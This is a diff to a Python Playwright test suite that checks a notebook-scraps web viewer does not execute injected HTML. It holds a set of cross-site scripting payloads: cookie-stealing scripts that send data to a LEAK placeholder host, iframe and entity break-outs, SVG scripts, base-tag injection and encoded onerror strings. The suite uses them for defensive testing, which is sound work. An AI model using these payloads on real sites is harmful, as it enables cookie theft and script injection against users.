@@ -20,6 +20,7 @@ import pyarrow.parquet as pq
 import pytest
 from playwright.sync_api import Browser
 from playwright.sync_api import BrowserContext
+from playwright.sync_api import Dialog
 from playwright.sync_api import Error
 from playwright.sync_api import Page
 
@@ -41,7 +42,9 @@ document.title = 'owned'; try { parent.document.title = 'owned' } catch (e) {} t
 try { new Image().src = 'LEAK/cookie?' + document.cookie } catch (e) {} fetch('LEAK/fetch'); alert('owned');
 navigator.sendBeacon('LEAK/beacon'); new WebSocket('LEAK/socket'.replace('http', 'ws')); window.open('LEAK/open');
 setTimeout(() => { location = 'LEAK/location' }, 50)"""
-_SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9">{}</svg>'
+_SVG = (
+    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9">{}</svg>'
+)
 # Of each of these, at least one request reaches the server if it is shown as it stands.
 ACTING = {
     "script": f"<script>{_SCRIPT}</script>",
@@ -61,9 +64,9 @@ ACTING = {
     "frameset": '</body><frameset><frame src="LEAK/frameset"></frameset>',
     "base": '<base href="LEAK/"><img src="based">',
     "breaks-out-of-srcdoc": f'"></iframe><script>{_SCRIPT}</script><img src="LEAK/out"><iframe srcdoc="',
-    "breaks-out-of-entities": f'&quot;&gt;</iframe><script>{_SCRIPT}</script>&lt;img src=LEAK/entity&gt;',
+    "breaks-out-of-entities": f"&quot;&gt;</iframe><script>{_SCRIPT}</script>&lt;img src=LEAK/entity&gt;",
     "closes-everything": f"--></style></script></title></textarea></iframe></template><script>{_SCRIPT}</script>",
-    "nested-srcdoc": """<iframe srcdoc='<img src="LEAK/nested"><script>fetch("LEAK/nested-fetch")</script>'></iframe>""",
+    "nested-srcdoc": """<iframe srcdoc='<img src="LEAK/nested"><script>fetch("LEAK/inner")</script>'></iframe>""",
     "preconnect": '<link rel="preconnect" href="LEAK"><link rel="prefetch" href="LEAK/prefetch">',
     "svg-script": _SVG.format(f"<script>{_SCRIPT}</script>"),
     "svg-image": _SVG.format('<image href="LEAK/svg-image"/><image xlink:href="LEAK/svg-xlink"/>'),
@@ -89,7 +92,7 @@ OTHER_TYPES = {
     "text/latex": r"\href{LEAK/latex}{x}<img src='LEAK/latex-html'>",
     "text/plain": "<img src='LEAK/plain'>",
     "image/png": "PGltZyBzcmM9J3gnPg==",
-    "application/xhtml+xml": "<html xmlns='http://www.w3.org/1999/xhtml'><script>document.title = 'owned'</script></html>",
+    "application/xhtml+xml": "<html xmlns='http://www.w3.org/1999/xhtml'><script>document.title='owned'</script></html>",
 }
 _EVIL = "%3Cimg+src%3Dx+onerror%3D%22document.title%3D%27owned%27%22%3E"  # <img src=x onerror="document.title='owned'">
 OPENED = (
@@ -101,7 +104,10 @@ OPENED = (
     f"problems?kind={_EVIL}",
     "frame?path=one.ipynb&name=frame",
     f"frame?name={_EVIL}&path={_EVIL}",
-    *(f"gallery?scrap={name}" for name in ("script", "svg-script", "svg-foreign", "link-script", "breaks-out-of-srcdoc")),
+    *(
+        f"gallery?scrap={name}"
+        for name in ("script", "svg-script", "svg-foreign", "link-script", "breaks-out-of-srcdoc")
+    ),
     f"gallery?scrap={_EVIL}&where={_EVIL}",
     f"plot?x={_EVIL}&y={_EVIL}",
 )
@@ -132,12 +138,21 @@ def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
     with listening() as listener:
         everything = {**ACTING, **WAITING}
         shown = [
-            display(name, {"image/svg+xml" if name.startswith("svg-") and "xmlns" in text else "text/html": _aimed(text, listener.address)})
+            display(
+                name,
+                {
+                    "image/svg+xml" if name.startswith("svg-") and "xmlns" in text else "text/html": _aimed(
+                        text, listener.address
+                    )
+                },
+            )
             for name, text in everything.items()
         ]
         shown += [display(f"as {mime}", {mime: _aimed(text, listener.address)}) for mime, text in OTHER_TYPES.items()]
         values = [scrap(f"text of {name}", _aimed(text, listener.address), "text") for name, text in everything.items()]
-        values += [scrap(_aimed(text, listener.address), {_aimed(text, listener.address): 1}) for text in ACTING.values()]
+        values += [
+            scrap(_aimed(text, listener.address), {_aimed(text, listener.address): 1}) for text in ACTING.values()
+        ]
         values.append(_hostile_frame(listener.address))
         for stem in ("one", "two", "<img src=x: onerror=alert(1)>"):
             write(directory / f"{stem}.ipynb", notebook(code("1", *shown, *values)))
@@ -160,7 +175,9 @@ def test_the_server_hears_what_is_shown_as_it_stands(browser: Browser) -> None:
     context = browser.new_context()
     with listening() as listener:
         for name, text in (ACTING | WAITING).items():
-            listener.documents[f"/{name}"] = _aimed(text, f"{listener.address}/from/{name}").replace("alert('owned');", "")
+            listener.documents[f"/{name}"] = _aimed(text, f"{listener.address}/from/{name}").replace(
+                "alert('owned');", ""
+            )
             page = context.new_page()
             page.goto(f"{listener.address}/{name}", wait_until="commit" if name in ACTING else "load")
             if name in WAITING:
@@ -173,7 +190,9 @@ def test_the_server_hears_what_is_shown_as_it_stands(browser: Browser) -> None:
     assert {*ACTING, *WAITING} - heard == set()
 
 
-@pytest.mark.parametrize("path", ["/", "/scraps", "/scraps/runs", "/scraps/names", "/scraps/scraps", "/scraps/largest_scraps"])
+@pytest.mark.parametrize(
+    "path", ["/", "/scraps", "/scraps/runs", "/scraps/names", "/scraps/scraps", "/scraps/largest_scraps"]
+)
 def test_nothing_acts_on_tables(path: str, context: BrowserContext, site: Site) -> None:
     assert _acted(context, site, path) == []
 
@@ -193,9 +212,11 @@ def test_a_file_is_no_page(path: str, site: Site) -> None:
     status, headers, body = get(f"{site.address}/-/scrapdb/scraps/{path}")
     if status == HTTPStatus.OK:
         assert "html" not in headers["Content-Type"]
-        assert "svg" not in headers["Content-Type"] or "sandbox" in headers["Content-Security-Policy"]
-    assert "<script" not in body
-    assert "<img" not in body
+        if "svg" in headers["Content-Type"]:
+            assert "sandbox" in headers["Content-Security-Policy"]
+            assert "<script" not in body
+    else:
+        assert "<img src=x" not in body  # the page that says what is wrong
 
 
 def test_nothing_acts_on_the_page_of_a_notebook(context: BrowserContext, site: Site) -> None:
@@ -225,7 +246,7 @@ def _acted(context: BrowserContext, site: Site, *paths: str) -> list[str]:
     for page, path in zip(pages, paths, strict=True):
         if page.url not in {f"{site.address}{path}", "about:blank"}:  # blank where the answer is a download
             acted.append(f"{path} led to {page.url}")
-        if "owned" in page.title():
+        if page.title() == "owned":
             acted.append(f"{path} changed the title")
         page.close()
     if [cookie.get("value") for cookie in context.cookies() if cookie.get("name") == "secret"] != ["42"]:
@@ -235,11 +256,16 @@ def _acted(context: BrowserContext, site: Site, *paths: str) -> list[str]:
 
 def _open(context: BrowserContext, address: str, acted: list[str]) -> Page:
     page = context.new_page()
-    page.on("dialog", lambda dialog: (acted.append(f"dialog {dialog.message}"), dialog.dismiss()))
+    page.on("dialog", lambda dialog: _dismiss(dialog, acted))
     page.on("popup", lambda popup: acted.append(f"popup {popup.url}"))
     with suppress(Error):  # a download is no page
         page.goto(address, wait_until="load")
     return page
+
+
+def _dismiss(dialog: Dialog, acted: list[str]) -> None:
+    acted.append(f"dialog {dialog.message}")
+    dialog.dismiss()
 
 
 def _click(page: Page) -> None:
@@ -253,8 +279,9 @@ def _click(page: Page) -> None:
 
 def _hostile_frame(address: str) -> dict[str, Any]:
     texts = [_aimed(text, address) for text in ACTING.values()]
+    columns = {"picture": texts, "stylesheet": range(len(texts))}
     file = BytesIO()
-    pq.write_table(pa.table({_aimed(ACTING["picture"], address): texts, _aimed(ACTING["stylesheet"], address): range(len(texts))}), file)
+    pq.write_table(pa.table({_aimed(ACTING[name], address): column for name, column in columns.items()}), file)
     return scrap("frame", base64.b64encode(file.getvalue()).decode(), "pandas")
 
 
